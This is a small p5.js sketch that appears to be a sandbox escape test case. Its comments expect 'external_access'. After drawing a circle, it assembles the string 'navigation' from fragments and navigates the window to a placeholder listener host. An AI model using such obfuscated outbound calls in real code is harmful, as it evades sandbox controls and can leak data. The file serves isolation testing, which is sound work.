// tries: to leave the page by the navigation interface
// expect: external_access
const hidden = (...parts) => parts.join("");
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  window[hidden("navi", "gation")].navigate("http://@LISTENER@/navigation-by-its-interface");
}
